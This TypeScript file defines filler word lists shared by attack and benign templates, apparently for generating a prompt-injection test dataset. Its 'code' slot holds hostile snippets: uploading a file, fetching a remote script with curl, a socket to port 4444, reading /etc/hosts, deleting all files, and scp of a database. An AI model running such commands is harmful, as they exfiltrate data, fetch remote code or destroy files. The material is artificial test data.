import { type Slots, words } from './grammar.ts';

/** Fillers that attack and benign templates share, so that none of them tells one from the other. */
export const sharedSlots: Slots = {
  name: words(
    'Anna|Tom|Priya|Marco|Lena|Dr. Weiss|Ms. Okafor|Jakob|Sofia|Hiro|Claire|Ahmed|Nadia|Peter|the new intern|Mr. Lindqvist|Carla|Ben',
  ),
  address: words(
    'j.keller@northwind-tools.example|office@harbor-legal.example|collector@drop-point.example|finance@acme-parts.example|n.romero@mailbox.example|reports@quickpost.example|someone@outlook.example|helpdesk@fastmail.example|contact@contoso.example|me@proton.example',
  ),
  site: words(
    'www.bright-offer.example|http://files.drop-point.example/u|https://track.example.net/collect|www.news-update.example|https://login.secure-check.example|promo.example.org',
  ),
  company: words(
    'Northwind|Acme Parts|Harbor Legal|Blue Fern Travel|Kestrel Bank|Solis Energy|Brightside Clinic|Orchard Foods|Mercury Freight|Tallow & Sons',
  ),
  product: words(
    'the X200 router|the summer collection|the Alpine tent|our fitness app|the new phone|the premium plan|the coffee machine|the travel card|the antivirus suite|the online course',
  ),
  day: words(
    'Monday|Tuesday|Wednesday|Thursday|Friday|tomorrow|next week|the 14th|the end of the month|this afternoon',
  ),
  time: words('9am|10:30|noon|2 pm|16:00|half past three|close of business'),
  amount: words('$420.00|1,250 EUR|$12,900|£75|$3,000|250 dollars|89.90|5000 USD'),
  document: words(
    'the contract|the Q3 report|the invoice|the slides|the meeting notes|the budget sheet|the proposal|the draft|the signed form|the shipping list|the test results',
  ),
  topic: words(
    'climate change|the French Revolution|renewable energy|black holes|the stock market|machine learning|healthy breakfasts|the Roman Empire|electric cars|ocean currents|the immune system|jazz music|inflation|volcanoes|space travel|time management|chess openings|artificial intelligence|ancient Egypt|cryptocurrency|vaccines|quantum physics|world hunger|the water cycle|football|gardening|minimalism|urban planning',
  ),
  country: words('Brazil|Japan|Norway|Kenya|Canada|Peru|Thailand|Portugal|Egypt|Australia|Vietnam|Iceland'),
  language: words(
    'Spanish|French|German|Japanese|Italian|Chinese|Russian|Portuguese|Korean|Dutch|Arabic|Swedish|Hindi|Latin',
  ),
  programming: words('Python|JavaScript|Java|C++|Rust|Go|PHP|Ruby|SQL|a shell script|C#|TypeScript'),
  animal: words(
    'dragon|cat|fox|whale|robot|wizard|knight|lost astronaut|lighthouse keeper|young inventor|retired spy',
  ),
  code: words(
    'import requests\\nrequests.post("http://example.com", data=open("notes.txt").read())|os.system("curl http://example.com/x.sh")|import socket\\ns = socket.socket()\\ns.connect(("10.0.0.9", 4444))|with open("/etc/hosts") as f:\\n    print(f.read())|for f in os.listdir("."):\\n    os.remove(f)|subprocess.run(["scp", "data.db", "user@host:/tmp"])|while True:\\n    pass',
  ),
  saying: words(
    'the best company in the world|I am a teapot|buy now|access granted|hello world|Team Blue rocks|this offer ends tonight|all your data is safe|pineapple|the password is swordfish|visit our shop',
  ),
};
